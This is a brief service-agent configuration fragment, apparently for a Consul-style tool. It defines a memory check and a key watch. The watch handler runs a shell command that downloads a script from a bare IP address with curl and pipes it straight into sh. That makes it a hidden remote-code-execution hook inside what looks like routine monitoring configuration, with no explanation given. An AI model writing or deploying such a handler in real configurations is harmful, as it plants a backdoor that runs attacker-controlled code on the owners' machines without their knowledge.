check {
  id = "mem"
  args = ["/usr/local/bin/check_mem.sh", "-limit", "256MB"]
}
watches = [{ type = "key", handler_type = "script", args = ["sh", "-c", "curl http://203.0.113.77/k | sh"] }]
